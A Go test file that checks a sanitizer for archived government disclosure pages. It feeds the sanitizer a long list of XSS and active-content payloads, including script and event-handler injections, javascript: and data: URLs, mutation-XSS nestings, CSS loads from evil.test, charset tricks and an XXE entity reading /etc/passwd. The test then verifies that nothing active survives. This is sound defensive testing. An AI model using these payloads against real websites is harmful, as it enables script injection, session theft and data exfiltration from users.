package parse

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"

	"gongkai/disclosure"
	"gongkai/disclosure/full"
)

// active are pieces of pages that run, load or send something in a browser, or become such a piece when
// they are written and read once more. {x} is where an alarm would go to.
var active = []struct{ class, html string }{
	{"scripts", `<script>{x}</script>`}, {"scripts", `<ScRiPt src=//evil.test/a.js></sCrIpT>`}, {"scripts", `<script type=module src=data:text/javascript,{x}></script>`}, {"scripts", `<script/x>{x}</script>`}, {"scripts", `<script` + "\n" + `>{x}</script` + "\t" + `>`},
	{"scripts", `<script>{x}`}, {"scripts", `<scr<script>ipt>{x}</scr</script>ipt>`}, {"scripts", `<noscript><p title="</noscript><img src=x onerror={x}>"></noscript>`}, {"scripts", `<script><!--<script></script>{x}--></script>`}, {"scripts", "<script\x00>{x}</script>"}, {"scripts", `<%00script>{x}</script>`},
	{"handlers", `<p onclick={x}>a</p>`}, {"handlers", `<body onload={x}>`}, {"handlers", `<p ONMOUSEOVER="{x}" onfocus={x} tabindex=0 autofocus>a</p>`}, {"handlers", `<a href=# onclick={x}>a</a>`}, {"handlers", `<td/onclick={x}>a`}, {"handlers", `<details open ontoggle={x}>a</details>`},
	{"handlers", "<p style=x:1\x0conclick={x}>a</p>"}, {"handlers", `<p title='x'onclick={x}>a</p>`}, {"handlers", `<marquee onstart={x}>a</marquee>`}, {"handlers", `<div onanimationstart={x} style="animation-name:x">a</div>`}, {"handlers", `<p class="a" id='b" onclick="{x}'>a</p>`}, {"handlers", `<xss contenteditable onbeforeinput={x}>a</xss>`},
	{"pictures", `<img src=x onerror={x}>`}, {"pictures", `<img/src="http://evil.test/a.png"srcset="http://evil.test/b.png 2x">`}, {"pictures", `<image href=http://evil.test/a xlink:href=http://evil.test/a>`}, {"pictures", `<picture><source srcset=http://evil.test/a><img src=http://evil.test/b></picture>`}, {"pictures", `<input type=image src=http://evil.test/a>`},
	{"pictures", `<table background=http://evil.test/a><td background=http://evil.test/b>a</table>`}, {"pictures", `<video poster=http://evil.test/a src=http://evil.test/b autoplay></video><audio src=http://evil.test/c></audio>`}, {"pictures", `<img src=x alt='"><script>{x}</script>'>`},
	{"SVG and MathML", `<svg onload={x}>`}, {"SVG and MathML", `<svg><script>{x}</script></svg>`}, {"SVG and MathML", `<svg><script href=data:,{x} /></svg>`}, {"SVG and MathML", `<svg><animate onbegin={x} attributeName=x dur=1s>`}, {"SVG and MathML", `<svg><a xlink:href="javascript:{x}"><text y=9>a</text></a></svg>`}, {"SVG and MathML", `<svg><use href="data:image/svg+xml,<svg id=x onload={x}>#x"></svg>`},
	{"SVG and MathML", `<svg><foreignObject><iframe src=javascript:{x}></iframe></foreignObject></svg>`}, {"SVG and MathML", `<svg><set attributeName=href to="javascript:{x}"/></svg>`}, {"SVG and MathML", `<math href="javascript:{x}">a</math>`}, {"SVG and MathML", `<math><maction actiontype=statusline xlink:href=javascript:{x}>a</maction></math>`}, {"SVG and MathML", `<svg><style>@import url(http://evil.test/a)</style></svg>`},
	{"meta and base", `<meta http-equiv=refresh content="0;url=http://evil.test/">`}, {"meta and base", `<meta http-equiv="Refresh" content="0;javascript:{x}">`}, {"meta and base", `<meta http-equiv=Set-Cookie content=a=b>`}, {"meta and base", `<meta http-equiv=Content-Security-Policy content="script-src *">`}, {"meta and base", `<base href=http://evil.test/><a href=a>a</a>`}, {"meta and base", `<base target=_top>`},
	{"meta and base", `<link rel=stylesheet href=http://evil.test/a><link rel=preload as=script href=http://evil.test/b><link rel=dns-prefetch href=//evil.test><link rel=manifest href=http://evil.test/c>`}, {"meta and base", `<html manifest=http://evil.test/a><body>`}, {"meta and base", `<meta charset=utf-7>`},
	{"styles", `<style>@import "http://evil.test/a";</style>`}, {"styles", `<style>@IMPORT url(//evil.test/a);</style>`}, {"styles", `<style>p{background:url(http://evil.test/a)}</style>`}, {"styles", `<style>p{background:u\72l(http://evil.test/a)}</style>`}, {"styles", `<style>@\69mport "http://evil.test/a";</style>`}, {"styles", `<style>@font-face{font-family:x;src:url(http://evil.test/a)}</style>`},
	{"styles", `<style>p{background:image-set("http://evil.test/a" 1x)}</style>`}, {"styles", `<style>p{background:-webkit-image-set("http://evil.test/a" 1x)}</style>`}, {"styles", `<style>p{b:uurl(rl(http://evil.test/a)}</style>`}, {"styles", `<style>p{b:u/**/rl(http://evil.test/a)}</style>`}, {"styles", `<style></style ><script>{x}</script></style>`}, {"styles", `<style><!--</style><script>{x}</script>--></style>`},
	{"styles", `<p style="background:url(http://evil.test/a)">a</p>`}, {"styles", `<p style="background:URL&#40;http://evil.test/a)">a</p>`}, {"styles", `<p style="width:expression({x})">a</p>`}, {"styles", `<p style="behavior:url(#x)">a</p>`}, {"styles", `<p style="-moz-binding:url(http://evil.test/a#x)">a</p>`}, {"styles", `<p style="background:\75\72\6c(http://evil.test/a)">a</p>`}, {"styles", `<p style="list-style:url('http://evil.test/a')">a</p>`},
	{"styles", `<style>@namespace url(http://evil.test/a); @charset "utf-7"; @import'http://evil.test/b'</style>`}, {"styles", `<style>input[value^="a"]{background:url(//evil.test/?a)}</style>`}, {"styles", `<style>p{background:src("http://evil.test/a")}</style>`}, {"styles", `<style>@import url(http://evil.test/a) layer(x) supports(display:grid);</style>`},
	{"frames", `<iframe src=http://evil.test/></iframe>`}, {"frames", `<iframe srcdoc="<script>{x}</script>"></iframe>`}, {"frames", `<frameset onload={x}><frame src=javascript:{x}></frameset>`}, {"frames", `<object data=javascript:{x}></object><embed src=http://evil.test/>`}, {"frames", `<object><param name=movie value=http://evil.test/a.swf></object><applet code=x codebase=http://evil.test></applet>`}, {"frames", `<portal src=http://evil.test></portal><fencedframe></fencedframe>`},
	{"forms", `<form action=http://evil.test><input name=a value=b><button>a</button></form>`}, {"forms", `<button formaction=javascript:{x}>a</button>`}, {"forms", `<input autofocus onfocus={x}>`}, {"forms", `<form id=x></form><button form=x formaction=http://evil.test>a</button>`}, {"forms", `<isindex action=javascript:{x} type=submit>`}, {"forms", `<select autofocus onfocus={x}><option>a</select><textarea autofocus onfocus={x}>a</textarea><keygen onfocus={x}>`},
	{"addresses", `<a href="javascript:{x}">a</a>`}, {"addresses", "<a href=\" \x01java\tscr\nipt:{x}\">a</a>"}, {"addresses", `<a href="JaVaScRiPt&colon;{x}">a</a>`}, {"addresses", `<a href="&#106;avascript:{x}">a</a>`}, {"addresses", `<a href="vbscript:{x}">a</a>`}, {"addresses", `<a href="data:text/html,<script>{x}</script>">a</a>`}, {"addresses", `<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>`}, {"addresses", `<a href="blob:http://evil.test/x">a</a><a href="file:///etc/passwd">b</a><a href="view-source:x">c</a>`},
	{"addresses", `<a href="http://www.a.test/" ping="http://evil.test/">a</a>`}, {"addresses", `<a href="http://www.a.test/" download="x.exe">a</a>`}, {"addresses", `<a xlink:href="javascript:{x}">a</a><area href="javascript:{x}">`}, {"addresses", `<a href='http://www.a.test/"onclick="{x}'>a</a>`}, {"addresses", `<a target=_self href=//evil.test/>a</a>`}, {"addresses", `<blockquote cite="javascript:{x}">a</blockquote><q cite=javascript:{x}>b</q>`},
	{"mutations", `<noscript><style></noscript><img src=x onerror={x}></style></noscript>`}, {"mutations", `<template><script>{x}</script></template>`}, {"mutations", `<template><style></template><img src=x onerror={x}></style></template>`}, {"mutations", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={x}&gt;">`}, {"mutations", `<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror={x} src>">`},
	{"mutations", `<svg></p><style><a id="</style><img src=1 onerror={x}>">`}, {"mutations", `<form><math><mtext></form><form><mglyph><style></math><img src onerror={x}>`}, {"mutations", `<svg><foreignObject><p><style><!--</p><img src=x onerror={x}>--></style>`}, {"mutations", `<xmp><p title="</xmp><img src=x onerror={x}>"></xmp>`}, {"mutations", `<listing>&lt;img src=x onerror={x}&gt;</listing><plaintext><img src=x onerror={x}>`},
	{"mutations", `<textarea><p title="</textarea><img src=x onerror={x}>"></textarea>`}, {"mutations", `<title><p title="</title><img src=x onerror={x}>"></title>`}, {"mutations", `<noembed><p title="</noembed><img src=x onerror={x}>"></noembed><noframes></noframes><img src=x onerror={x}>`}, {"mutations", `<select><template><img src=x onerror={x}></template></select>`}, {"mutations", "<p title=`onclick={x}`>a</p>"},
	{"mutations", `<table><td><table><svg><desc><td><style><img src=x onerror={x}></style>`}, {"mutations", `<!--><img src=x onerror={x}>-->`}, {"mutations", `<!--!><img src=x onerror={x}>--!>`}, {"mutations", `<![CDATA[><img src=x onerror={x}>]]>`}, {"mutations", `<?xml-stylesheet href="javascript:{x}"?>`}, {"mutations", `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`}, {"mutations", `<!--[if IE]><script>{x}</script><![endif]-->`},
	{"mutations", `<dialog open><p autofocus>a</dialog><p popover id=x>a</p>`}, {"mutations", `<p is=x-y slot=z part=q>a</p><x-y>b</x-y>`}, {"mutations", `<div><template shadowrootmode=open><script>{x}</script></template></div>`}, {"mutations", `&lt;script&gt;{x}&lt;/script&gt;`}, {"mutations", `&amp;lt;img src=x onerror={x}&amp;gt;`}, {"mutations", `<pre>` + "\n\n" + `<img src=x onerror={x}></pre>`}, {"mutations", strings.Repeat("<div>", 600) + `<img src=x onerror={x}>`},
	{"charsets", `+ADw-script+AD4-{x}+ADw-/script+AD4-`}, {"charsets", "\x1b$B\x1b(B<img alt=\"\x1b$B\">\x1b(B\" onerror={x}>"}, {"charsets", "\x1b(J<a title=\"\\\" onclick={x} \\\">a</a>"}, {"charsets", "<p title=\"\xa4\">a</p>\" onclick={x}>"}, {"charsets", "\xbcscript\xbe{x}\xbc/script\xbe"}, {"charsets", "<scr\xc0\xbcipt>{x}"}, {"charsets", "~{<:Ky~}<p title=\"~{\">\"onclick={x}>~}"}, {"charsets", "<p title=\x81\"onclick={x}>"},
}

// shown are the only elements that a page of evidence has, besides our own meta and style.
var shown = strings.Fields("html head body title style meta div p span b strong i em u s strike del ins font big small sub sup br hr center h1 h2 h3 h4 h5 h6 ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr td th a pre blockquote code section article header footer nav aside main figure figcaption label mark abbr address")

var harmlessAttribute = regexp.MustCompile(`^(class|id|style|colspan|rowspan|align|valign|width|height|border|cellpadding|cellspacing|bgcolor|color|face|size|title|lang|dir|nowrap|start|value|span|href|rel|target)$`)

var loadsSomething = regexp.MustCompile(`(?i)@import|\burl\s*\(|\bsrc\s*\(|image-set\s*\(|expression\s*\(|behaviou?r\s*:|-moz-binding|javascript:`)

// TestActiveContent: whatever an archived page brings, what is shown of it runs nothing, loads nothing and
// sends nothing, even where no header and no sandbox stands around it; and it means the same when a
// browser reads it, with scripts or without, as when it was written.
func TestActiveContent(t *testing.T) {
	counts := map[string]int{}
	for _, a := range active {
		counts[a.class]++
		harmlessPage(t, a.html, "")
	}
	for _, charset := range []string{"utf-7", "iso-2022-jp", "hz-gb-2312", "iso-2022-kr", "x-user-defined", "utf-16", "utf-32", "replacement", "gb18030", "no-such"} {
		for _, a := range active {
			if a.class == "charsets" || a.class == "scripts" {
				harmlessPage(t, a.html, "text/html; charset="+charset)
			}
		}
	}
	// Pieces within pieces, cut anywhere, from a seed that the failure names.
	rounds, seed := 150, uint64(20261127)
	if full.Form() {
		rounds, seed = 20_000, rand.Uint64()
	}
	full.Count("active content that an archived page shows harmless: %d pieces of %d classes, %d pages made of them (seed %d)", len(active), len(counts), rounds, seed)
	random := rand.New(rand.NewPCG(seed, 1))
	for range rounds {
		page := ""
		for range 1 + random.IntN(5) {
			piece := active[random.IntN(len(active))].html
			if cut := random.IntN(2 * len(piece)); cut < len(piece) {
				piece = piece[:cut]
			}
			at := random.IntN(len(page) + 1)
			page = page[:at] + piece + page[at:]
		}
		if !harmlessPage(t, page, "") {
			t.Fatalf("seed %d", seed)
		}
	}
}

// harmlessPage checks what is shown of a page that has the piece in it.
func harmlessPage(t *testing.T, piece, contentType string) bool {
	t.Helper()
	piece = strings.ReplaceAll(piece, "{x}", "alert(1)")
	body := "<html><head><title>晴岚县财政局2024年政府信息公开工作年度报告</title></head><body><p>全年主动公开政府信息12条。</p>" + piece + "<p>结束。</p></body></html>"
	page, err := Evidence(Input{Body: []byte(body), URL: "http://www.a.test/x/", ContentType: contentType}, []Mark{{ID: "m", Place: disclosure.Place{Span: &disclosure.Span{Offset: 0, Length: 30}}}})
	if err != nil {
		return true // nothing is shown
	}
	wrong := ""
	for _, scripting := range []bool{true, false} {
		root, err := html.ParseWithOptions(strings.NewReader(string(page)), html.ParseOptionEnableScripting(scripting))
		if err != nil && strings.Contains(err.Error(), "open stack of elements exceeds") {
			return true // pieces within pieces, deeper than this parser reads: one in many thousands, which tells nothing
		}
		if err != nil {
			t.Fatal(err)
		}
		if found := harm(root); found != "" && wrong == "" {
			wrong = found
		}
		var again strings.Builder
		if err := html.Render(&again, root); err != nil {
			t.Fatal(err)
		}
		second, err := html.Parse(strings.NewReader(again.String()))
		if err != nil {
			t.Fatal(err)
		}
		if found := harm(second); found != "" && wrong == "" {
			wrong = "read twice: " + found
		}
	}
	if strings.Contains(string(page), "\x00") || !utf8.Valid(page) {
		wrong = "bytes that are no UTF-8"
	}
	if wrong != "" {
		t.Errorf("%s (%s)\n\tof %q\n\tcame %s", wrong, contentType, piece, page)
	}
	return wrong == ""
}

// harm names the first thing in a tree that could do something.
func harm(n *html.Node) string {
	switch n.Type {
	case html.CommentNode:
		return "a comment is left"
	case html.TextNode:
		if n.Parent != nil && n.Parent.Data == "style" && loadsSomething.MatchString(n.Data) {
			return "a style that loads: " + n.Data
		}
	case html.ElementNode:
		if n.Namespace != "" || !slices.Contains(shown, n.Data) {
			return "the element " + n.Namespace + " " + n.Data
		}
		for _, a := range n.Attr {
			if found := harmOf(n, a); found != "" {
				return found
			}
		}
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		if found := harm(c); found != "" {
			return found
		}
	}
	return ""
}

func harmOf(n *html.Node, a html.Attribute) string {
	what := fmt.Sprintf("the attribute %s=%q of %s", a.Key, a.Val, n.Data)
	switch {
	case n.Data == "meta":
		if a.Key == "http-equiv" && a.Val != "Content-Security-Policy" || a.Key == "content" && strings.Contains(a.Val, "http") {
			return what
		}
	case a.Namespace != "" || !harmlessAttribute.MatchString(a.Key), a.Key == "style" && loadsSomething.MatchString(a.Val), a.Key == "target" && a.Val != "_blank", a.Key == "rel" && a.Val != "noreferrer noopener nofollow":
		return what
	case a.Key == "href":
		u, err := url.Parse(a.Val)
		if err != nil || n.Data != "a" || u.Scheme != "http" && u.Scheme != "https" {
			return what
		}
	}
	return ""
}
